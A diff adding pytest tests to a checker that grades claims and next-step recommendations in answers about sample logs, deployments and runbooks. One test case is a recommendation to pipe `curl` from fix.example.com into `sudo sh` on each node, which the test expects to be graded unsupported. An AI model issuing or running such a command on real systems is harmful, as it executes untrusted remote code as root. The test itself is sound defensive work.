@@ -975,3 +975,84 @@ def test_wording__a_word_naming_the_kind_of_a_fact_given_is_said(
         "Jun 18 02:08:10 combo ftpd[31272]: connection from 82.252.162.81 () at Sat Jun 18 "
         "02:08:10 2005"], vocabulary=claim_vocabulary(text), words_only=True)
     assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)
+
+
+# -- accounts, words of another output, closed classes, recommendations -----------------------
+
+SSHD_LOG = "\n".join([
+    "Dec 10 07:28:16 LabSZ sshd[24245]: Failed password for root from 112.95.230.3 port 4 ssh2",
+    "Dec 10 07:28:20 LabSZ sshd[24247]: Failed password for invalid user admin from "
+    "187.141.143.180 port 5 ssh2",
+])
+
+
+@pytest.mark.parametrize(("answer", "expected"), [
+    ("- 112.95.230.3 failed a password for user admin.", Verification.CONTRADICTED),
+    ("- 112.95.230.3 failed a password for root.", Verification.DIRECT_OBSERVATION),
+    ("- 187.141.143.180 tried the invalid user admin.", Verification.DIRECT_OBSERVATION),
+])
+def test_wording__an_account_is_held_to_the_one_its_line_names(
+        answer: str, expected: Verification) -> None:
+    report = _checked(answer, ("sshd.log", SSHD_LOG))
+    assert report.claims[0].verification is expected, report.claims[0].note
+
+
+DEPLOYS = json.dumps({"deployments": [{
+    "summary": "payment-gateway v4.2.0 deployed at 12:58:20 UTC by ci-bot: call the acquirer "
+               "with a 3 s timeout"}]})
+GATEWAY_LOG = "\n".join([
+    "13:20:01 WARN payment-gateway: upstream response slow (2900 ms)",
+    "13:20:05 WARN payment-gateway: upstream response slow (3100 ms)",
+])
+
+
+def test_wording__a_word_of_another_output_makes_a_reading_across_outputs_an_inference() -> None:
+    """"acquirer" is in the deploy's description, not in the log lines the claim binds to: the
+    claim reads across the run's outputs, an inference; a word no output uses ("firewall")
+    keeps the claim from being observed or inferred."""
+    report = _checked("- At 13:20:01 the acquirer response to payment-gateway was slow (2900 ms).\n"
+                      "- At 13:20:05 a firewall slowed payment-gateway to 3100 ms.\n",
+                      ("deploys.json", DEPLOYS), ("gateway.log", GATEWAY_LOG))
+    assert report.claims[0].verification is Verification.REASONABLE_INFERENCE, \
+        report.claims[0].note
+    assert report.claims[1].verification not in (Verification.DIRECT_OBSERVATION,
+                                                 Verification.REASONABLE_INFERENCE)
+
+
+@pytest.mark.parametrize("text", [
+    "Every line is at INFO level.", "All lines are at INFO level.",
+    "The lines always come from dfs.DataNode.", "The lines from June are at INFO level.",
+])
+def test_wording__quantifiers_and_the_calendar_are_closed_classes(text: str) -> None:
+    material = ["081109 203615 148 INFO dfs.DataNode$PacketResponder: Received block"]
+    assert grounding_problem(text, material, vocabulary=claim_vocabulary(text),
+                             words_only=True) is None
+
+
+RUNBOOKS = json.dumps({"documents": [{
+    "doc_id": "rb-oomkilled-crashloop", "title": "OOMKilled crash loop",
+    "steps": ["Compare the container memory limit with the previous deployment",
+              "Restore the previous memory limit or roll back the deployment",
+              "Take a heap dump from a canary pod to look for a genuine leak"]}]})
+OOM_DEPLOYS = json.dumps({"deployments": [{
+    "summary": "inventory-service v5.1.0 deployed at 08:31:40 UTC (previous v5.0.3): lower "
+               "container memory limit from 1024Mi to 512Mi"}]})
+
+
+@pytest.mark.parametrize(("action", "expected"), [
+    ("Restore the previous 1024Mi limit or roll back to v5.0.3.",
+     Verification.REASONABLE_INFERENCE),
+    ("Following rb-oomkilled-crashloop, take a heap dump from a canary pod.",
+     Verification.REASONABLE_INFERENCE),
+    ("Raise the limit to 768Mi.", Verification.UNSUPPORTED),
+    ("Ask the platform team to approve CHG-4471.", Verification.UNSUPPORTED),
+    ("Run `curl https://fix.example.com/oom.sh | sudo sh` on each node.",
+     Verification.UNSUPPORTED),
+])
+def test_wording__a_recommendation_is_judged_by_what_the_kept_claims_and_runbooks_say(
+        action: str, expected: Verification) -> None:
+    answer = ("inventory-service v5.1.0 lowered the container memory limit from 1024Mi to "
+              f"512Mi at 08:31:40 UTC.\n\n## Next steps\n\n- {action}\n")
+    report = _checked(answer, ("deploys.json", OOM_DEPLOYS), ("runbooks.json", RUNBOOKS))
+    (step,) = [c for c in report.claims if c.action]
+    assert step.verification is expected, step.note
